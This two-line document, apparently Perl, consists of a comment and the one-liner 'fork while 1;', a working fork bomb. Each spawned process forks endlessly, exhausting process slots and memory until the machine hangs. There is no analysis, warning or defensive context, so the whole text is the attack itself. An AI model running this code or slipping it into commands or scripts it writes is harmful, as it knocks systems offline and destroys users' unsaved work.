# Each process forks for ever.
fork while 1;
